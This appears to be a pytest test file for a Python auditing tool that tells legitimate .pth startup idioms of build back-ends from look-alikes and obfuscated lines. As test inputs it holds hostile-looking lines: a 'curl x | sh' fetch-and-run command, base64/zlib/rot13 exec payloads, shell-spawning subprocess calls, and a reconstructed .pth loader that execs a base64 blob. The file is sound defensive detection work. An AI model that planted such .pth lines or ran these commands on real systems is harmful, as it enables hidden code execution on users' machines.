"""The recognised idioms of each build back-end, their look-alikes, and what makes unknown
code obfuscated -- over worlds (the module each idiom's line imports is found by the
import resolver in the world's site-packages)."""

from __future__ import annotations

import base64
from typing import Any

import pytest

import pywhence
from pywhence.audit.idioms import recognise, suspicion

SITE = "/usr/lib/python3.12/site-packages"

#: (idiom, .pth file name, its line, the module it imports and that module's source)
IDIOMS = [
    ("setuptools-editable", "__editable__.proj-1.0.pth",
     "import __editable___proj_1_0_finder; __editable___proj_1_0_finder.install()",
     "__editable___proj_1_0_finder",
     "MAPPING = {}\nclass _EditableFinder:\n    pass\ndef install():\n    pass\n"),
    ("setuptools-distutils-shim", "distutils-precedence.pth",
     ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
      "'local'; enabled and __import__('_distutils_hack').add_shim(); "),
     "_distutils_hack", "class DistutilsMetaFinder:\n    pass\ndef add_shim():\n    pass\n"),
    ("editables", "proj.pth", "import _editable_impl_proj", "_editable_impl_proj",
     "from editables.redirector import RedirectingFinder as F\nF.install()\n"),
    ("meson-python", "proj-editable.pth", "import _proj_editable_loader", "_proj_editable_loader",
     "class MesonpyMetaFinder:\n    pass\ndef install(*a):\n    pass\n"),
    ("scikit-build-core", "_editable_skbc_proj.pth", "import _editable_skbc_proj",
     "_editable_skbc_proj", "class ScikitBuildRedirectingFinder:\n    pass\n"),
    ("scikit-build-core", "_proj_editable.pth", "import _proj_editable", "_proj_editable",
     "class ScikitBuildRedirectingFinder:\n    pass\n"),
    ("virtualenv", "_virtualenv.pth", "import _virtualenv", "_virtualenv",
     "_DISTUTILS_PATCH = 'distutils.dist', 'setuptools.dist'\nclass _Finder:\n    pass\n"),
]


def _world(pth: str, line: str, modules: dict[str, str]) -> dict[str, Any]:
    files = {"/usr/lib/python3.12/os.py": "", "/usr/lib/python3.12/encodings/__init__.py": "",
             f"{SITE}/{pth}": line + "\n"}
    files.update({f"{SITE}/{name}.py": text for name, text in modules.items()})
    # not a venv: a venv's site-packages is read twice by 3.8-3.14, its lines run twice
    return {"version": "3.12", "argv": ["/usr/bin/python3.12", "-I", "-c", "pass"],
            "executables": ["/usr/bin/python3.12"], "files": files, "uid": 0, "euid": 0}


@pytest.mark.parametrize(("idiom", "pth", "line", "module", "source"), IDIOMS,
                         ids=[f"{i[0]}:{i[1]}" for i in IDIOMS])
def test_recognised_with_its_module(idiom: str, pth: str, line: str, module: str, source: str) -> None:
    report = pywhence.audit_world(_world(pth, line, {module: source}))
    (code,) = report.startup_code
    assert code.kind == "pth-import" and code.recognised == idiom and code.hooks
    assert not [f for f in report.findings if f.level != "info"]


@pytest.mark.parametrize(("idiom", "pth", "line", "module", "source"), IDIOMS,
                         ids=[f"{i[0]}:{i[1]}" for i in IDIOMS])
def test_an_idioms_line_with_another_module_is_a_look_alike(idiom: str, pth: str, line: str,
                                                            module: str, source: str) -> None:
    report = pywhence.audit_world(_world(pth, line, {module: "import os\nos.system('id')\n"}))
    (code,) = report.startup_code
    assert code.recognised is None
    assert [f.rule for f in report.findings if f.level == "error"] == ["PW103"]


def test_names_idioms_own() -> None:
    for name in ("distutils-precedence.pth", "__editable__.x-1.pth", "_virtualenv.pth",
                 "easy-install.pth"):
        assert recognise(name, "import os").lookalike is not None
    assert recognise("proj-editable.pth", "import os").lookalike is None  # not owned
    assert recognise("easy-install.pth", "import sys; sys.__plen = len(sys.path)").idiom == \
        "setuptools-easy-install"
    nspkg = ("import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
             "sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and "
             "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = "
             "has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec("
             "importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or "
             "sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and "
             "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)")
    assert recognise("zope.interface-5.0-py3.12-nspkg.pth", nspkg).idiom == "setuptools-nspkg"
    assert recognise("zope-nspkg.pth", nspkg + ";import os").idiom is None
    assert recognise("x.pth", nspkg).idiom is None


@pytest.mark.parametrize(("line", "why"), [
    ("import base64; exec(base64.b64decode('aW1wb3J0IG9z'))", "executes decoded data"),
    ("import zlib, base64; exec(zlib.decompress(base64.b64decode(b'eJw=')))", "executes decoded data"),
    ("import codecs; exec(codecs.decode('vzcbeg bf', 'rot13'))", "executes decoded data"),
    ("import subprocess; subprocess.Popen(['sh', '-c', 'id'])", "starts processes"),
    ("import os; os.system('curl x | sh')", "starts processes"),
    ("import socket; socket.create_connection(('h', 1))", "opens network connections"),
    ("import urllib.request; urllib.request.urlopen('http://x')", "opens network connections"),
    ("import x; x.run('" + "QUJD" * 80 + "')", "long encoded blob"),
    ("import os; exec(\"import subprocess\\nsubprocess.run(['id'])\")", "starts processes"),
    ("import os; exec(os.environ['X'])", "computes at run time"),
])
def test_obfuscated(line: str, why: str) -> None:
    reason, _ = suspicion(line)
    assert reason is not None and why in reason


@pytest.mark.parametrize(("line", "hidden"), [
    ("import foo", False), ("import foo; foo.install()", False),
    ("import os; exec('x = 1')", True),
])
def test_unknown_but_not_obfuscated(line: str, hidden: bool) -> None:
    assert suspicion(line) == (None, hidden)


def test_litellm_shape_in_a_world() -> None:
    blob = base64.b64encode(b"import os; os.system('id')").decode()
    line = f"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"{blob}\"))'])"
    report = pywhence.audit_world(_world("litellm_init.pth", line, {}))
    (finding,) = [f for f in report.findings if f.level == "error"]
    assert finding.rule == "PW102" and finding.line == 1
